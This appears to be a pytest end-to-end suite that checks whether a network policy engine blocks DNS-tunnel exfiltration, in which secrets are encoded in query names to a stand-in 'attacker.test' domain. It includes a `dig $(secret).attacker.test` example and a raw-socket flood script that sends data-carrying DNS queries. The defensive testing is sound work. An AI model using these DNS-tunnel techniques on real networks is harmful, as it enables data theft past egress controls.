"""The tunnel through the resolver: `dig $(secret).attacker.test`. The query name is the
data; the resolver recurses to the attacker's server without any connection of the client.
A strict policy must keep the secret from ever reaching a DNS server, over UDP and TCP,
one query or many on one socket, from the host, from a container, through a local stub."""

from __future__ import annotations

import sys
import uuid
from pathlib import Path

import pytest

from tests.e2e.adversary.raw import kernel_counter
from tests.e2e.lab import SERVER_V4, SERVER_V6, SLOWDOWN, Lab
from tests.e2e.policies import everyone, web_by_name
from tests.e2e.queries import dig, many

# A refusal comes back at once: well under a second here (the resolver would time out
# after 3), stretched with the test machine's slowdown (the VM's emulated CPU) but short
# of that timeout.
AT_ONCE = min(1.0 * SLOWDOWN, 2.5)

POLICY = everyone(web_by_name(80, 443))


def secret() -> str:
    return f"s{uuid.uuid4().hex}"


def test_a_secret_in_a_query_name_never_reaches_the_resolver(lab: Lab, dns_log: Path) -> None:
    lab.start_engine(lab.write_config(POLICY))
    udp, tcp, six = secret(), secret(), secret()
    dig(lab, f"{udp}.attacker.test")
    dig(lab, f"{tcp}.attacker.test", tcp=True)
    dig(lab, f"{six}.attacker.test", server=SERVER_V6)
    burst = [secret() for _ in range(5)]
    many(lab, "udp", ["www.allowed.test"] + [f"{s}.attacker.test" for s in burst])
    in_turn = [secret() for _ in range(3)]  # each after the last one's refusal arrived
    rcodes, _ = many(lab, "udp-in-turn", [f"{s}.attacker.test" for s in in_turn])
    assert rcodes == ["REFUSED"] * 3, rcodes
    piped = [secret() for _ in range(2)]
    many(lab, "tcp", ["www.allowed.test"] + [f"{s}.attacker.test" for s in piped])
    status, answers, _ = dig(lab, "www.allowed.test")
    assert status == "NOERROR" and answers, "allowed names still resolve"
    log = dns_log.read_text()
    assert "www.allowed.test" in log, "the server logs what it gets"
    for leaked in (udp, tcp, six, *burst, *in_turn, *piped):
        assert leaked not in log, f"{leaked} reached the resolver"


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_a_container_cannot_tunnel_through_the_resolver(lab: Lab, dns_log: Path,
                                                       transport: str) -> None:
    lab.add_container()
    lab.start_engine(lab.write_config(POLICY, forward_from=["docker0"]))
    leak = secret()
    status, _answers, elapsed = dig(lab, f"{leak}.attacker.test", ns=lab.container,
                                    tcp=transport == "tcp")
    assert leak not in dns_log.read_text()
    assert elapsed < AT_ONCE and status in ("REFUSED", "error"), (status, elapsed)


# A tunnel's pace: queries as fast as one socket sends them, each name a new chunk.
FLOOD = r"""
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((sys.argv[1], 53))
for i in range(int(sys.argv[2])):
    name = f"c{i}.{sys.argv[3]}.attacker.test"
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    try:
        s.send(struct.pack("!HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0) + question
               + b"\0\1\0\1")
    except OSError:  # EPERM: dropped in the kernel (the meter)
        pass
"""


def test_a_tunnels_flood_on_one_socket_is_metered_before_the_engine(lab: Lab,
                                                                    dns_log: Path) -> None:
    """And no query leaves as the conntrack "reply" of a refusal the engine wrote to the
    socket (a refusal once made a flow that the next query answered)."""
    lab.start_engine(lab.write_config(POLICY))
    leak = secret()
    lab.exec(lab.client, sys.executable, "-c", FLOOD, SERVER_V4, "3000", leak, check=True,
             timeout=60)
    assert kernel_counter(lab, "dns_queries_over_limit") > 0
    assert leak not in dns_log.read_text()
    status, answers, elapsed = dig(lab, "www.allowed.test")
    assert status == "NOERROR" and answers and elapsed < AT_ONCE, "another socket is not held"
